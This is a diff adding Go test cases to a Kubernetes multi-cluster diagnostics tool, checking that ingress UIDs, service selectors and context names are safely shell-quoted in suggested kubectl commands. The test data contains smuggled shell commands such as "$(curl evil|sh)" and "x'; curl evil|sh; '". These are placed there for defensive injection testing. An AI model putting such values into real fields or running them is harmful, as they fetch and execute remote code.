@@ -481,6 +481,20 @@ func uidCases() []testCase {
 				remedy:  `kubectl --context=ctx-c1 -n kube-system patch configmap ingress-uid --type=merge -p '{"data":{"uid":"aaaa"}}'`,
 			}},
 		},
+		{
+			name: "most clusters have a UID that is a command",
+			change: func(w *world) {
+				sharedUID(w)
+				other(w)
+				w.facts(func(f *federation.ClusterFacts) { f.IngressUID.UID, f.Ingresses = "x'; curl evil|sh; '", nil }, "c2", "c3")
+				w.observe(func(o *federation.Observation) { o.Annotations = nil }, ingressRef, "c2", "c3")
+			},
+			want: []want{{
+				id: "D13", severity: failure, object: uidRef,
+				message: `the UIDs of Google's ingress controllers differ, so each makes a load balancer of its own: "bbbb" in c1; "x'; curl evil|sh; '" in c2, c3`,
+				remedy:  "see who wrote ConfigMap/kube-system/ingress-uid: the UID that most clusters have is none that Google's controller makes",
+			}},
+		},
 		{name: "UIDs differ and nobody shares them", change: other},
 		{name: "what stands before the last -- does not count", change: func(w *world) {
 			sharedUID(w)
@@ -601,6 +615,19 @@ func serviceCases() []testCase {
 				id: "D18", severity: warning, cluster: "c2", object: serviceRef,
 				message: "no ready endpoint for networking.k8s.io/Ingress/shop/web: selector app=web, 0 ready and 2 not ready; apps/ReplicaSet/shop/web 2 of 2 ready",
 				remedy:  "kubectl --context=ctx-c2 -n shop get pods -l app=web -o wide",
+			}},
+		},
+		{
+			name: "no ready endpoint, by a selector and in a context that are commands", lasted: time.Minute,
+			change: func(w *world) {
+				w.plan(strings.ReplaceAll(serviceYAML, "app: web", `app: "$(curl evil|sh)"`), "c2")
+				w.in.Federation.Clusters[1].Context = "it's c2; id"
+				gone(w)
+			},
+			want: []want{{
+				id: "D18", severity: warning, cluster: "c2", object: serviceRef,
+				message: "no ready endpoint for networking.k8s.io/Ingress/shop/web: selector app=$(curl evil|sh), 0 ready and 2 not ready",
+				remedy:  `kubectl --context='it'\''s c2; id' -n shop get pods -l 'app=$(curl evil|sh)' -o wide`,
 			}},
 		},
 		{
